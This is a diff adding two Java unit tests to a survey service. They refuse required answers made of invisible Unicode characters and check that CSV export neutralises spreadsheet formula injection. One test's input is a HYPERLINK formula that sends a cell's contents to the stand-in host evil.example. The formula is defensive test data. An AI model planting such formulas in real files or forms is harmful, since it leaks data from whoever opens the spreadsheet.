@@ -202,7 +202,29 @@ class SurveyServiceTest {
                 "2.2.2.2", session()), "survey.error.answer.invalid");
         assertRefused(() -> publicSurveys.submit(d.token(), Map.of(999_999L, List.of("x")), "2.2.2.2", session()),
                 "survey.error.unknownQuestion");
+        // A required answer made only of invisible characters is no answer.
+        for (String invisible : List.of("\u200B", "\u00A0\u200B\u3000", "\u3164", "\uFEFF\u2060")) {
+            assertRefused(() -> publicSurveys.submit(d.token(), answers(d, null, invisible, "SNS", null, "5", null),
+                    "2.2.2.2", session()), "survey.error.answer.required");
+        }
         assertThat(signedIn.as(owner, () -> surveys.results(id, d.id())).responseCount()).isZero();
+    }
+
+    @Test
+    void anAnonymousFormulaAnswerReachesTheCsvNeutralised() throws Exception {
+        String owner = account("소유자");
+        long id = experimentOf(owner);
+        SurveyDetails d = everyType(owner, id);
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"클릭\")";
+        publicSurveys.submit(d.token(), answers(d, "@SUM(1+1)", formula, "SNS", null, "5", null), "6.6.6.6",
+                session());
+
+        byte[] bytes = signedIn.as(owner, () -> surveys.exportCsv(id, d.id()));
+        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
+        List<CSVRecord> rows = CSVFormat.EXCEL.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(text)).getRecords();
+        assertThat(rows).extracting(r -> r.get("답변")).contains("'@SUM(1+1)", "'" + formula, "SNS", "5");
+        assertThat(rows).allSatisfy(r -> assertThat(r.get("답변")).doesNotStartWith("=").doesNotStartWith("@"));
     }
 
     @Test
